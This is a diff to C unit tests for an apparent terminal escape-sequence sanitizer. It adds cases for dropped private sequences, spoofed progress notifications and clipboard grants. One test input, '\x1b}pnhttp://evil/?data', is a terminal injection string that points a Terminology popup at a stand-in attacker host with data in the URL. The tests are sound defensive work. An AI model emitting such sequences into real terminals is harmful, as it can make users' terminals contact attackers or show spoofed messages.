@@ -63,7 +63,9 @@ static void passes(void **state)
 		"\x1b[2J\x1b[H\x1b[3;4H\x1b[K\x1b[1J\x1b[2A\x1b[5B",
 		"\x1b[4C\x1b[3D\x1b[2L\x1b[1M\x1b[4P",
 		"\x1b[?25l\x1b[?25h\x1b[?12l\x1b[2 q\x1b[ q\x1b[4h\x1b[4l\x1b[!p",
-		"\x1b(0lqqk\x1b(B\x1b)0\x0e\x0f\0337\0338\x1bM\033D\033E\x1b#8",
+		"\x1b(0lqqk\x1b(B\x1b)0\x0e\x0f\0337\0338\x1bM\033D\033E\x1b#8\x1b*0\x1b+B\x1b-"
+		"A\x1b(%5",
+		"\033c\x1b=\x1b>\x1b<\x1bg\x1bNx\x1bOx\x1bn\x1bo\x1b|\x1b~\0336\0339\x1b#3\x1b#6",
 		"\x1b[?1000h\x1b[?1002h\x1b[?1006h\x1b[?1006l\x1b[?2026h\x1b[?2026l",
 		"\x1b]0;a title\x1b\\\x1b]2;\xe2\x9d\x9d \xe2\x9c\x93 \xc3\xa9\x1b\\",
 		"\x1b]8;;https://example.com\x1b\\link\x1b]8;;\x1b\\",
@@ -158,6 +160,13 @@ static void drops(void **state)
 		"\x1bP1;1;1{ @\x1b\\",
 		"\x1bP>|x\x1b\\",
 		"\x1b\\",
+		/* Terminology's own; memory lock; sets of two bytes; what no terminal knows. */
+		"\x1b}",
+		"\x1bl",
+		"\x1b$B",
+		"\x1b&4",
+		"\x1b!0",
+		"\x1b#~",
 	};
 
 	(void)state;
@@ -199,6 +208,14 @@ static void keeps_the_clipboard(void **state)
 	expect(none, "\xc2\x1b[m", "?\x1b[m");
 }
 
+/* A private sequence is dropped, and what follows it is text. */
+static void shows_private_sequences(void **state)
+{
+	(void)state;
+	expect(all, "\x1b}pnhttp://evil/?data", "pnhttp://evil/?data");
+	expect(all, "\x1b}qs", "qs");
+}
+
 static void grants(void **state)
 {
 	const struct terminal_rights writes = { .clipboard_write = true, .questions = true };
@@ -213,6 +230,9 @@ static void grants(void **state)
 	expect(notes, "\x1b]9;text\a\x1b]777;notify;a;b\a\x1b]99;;text\a",
 		"\x1b]9;text\x1b\\\x1b]777;notify;a;b\x1b\\\x1b]99;;text\x1b\\");
 	expect(none, "\x1b]9;text\a\x1b]777;notify;a;b\a\x1b]99;;text\a", "");
+	/* Progress has no text. */
+	expect(none, "\x1b]9;4;Your bank called\a\x1b]9;4;1;50 text\a", "");
+	expect(notes, "\x1b]9;4;Your bank called\a", "\x1b]9;4;Your bank called\x1b\\");
 	/* A grant to write is none to have the answer typed into the shell. */
 	expect((struct terminal_rights){ .clipboard_read = true }, "\x1b]52;c;?\a", "");
 }
@@ -353,6 +373,7 @@ int main(void)
 		cmocka_unit_test(asks_the_terminal),
 		cmocka_unit_test(drops),
 		cmocka_unit_test(keeps_the_clipboard),
+		cmocka_unit_test(shows_private_sequences),
 		cmocka_unit_test(grants),
 		cmocka_unit_test(bounds),
 		cmocka_unit_test(undoes),
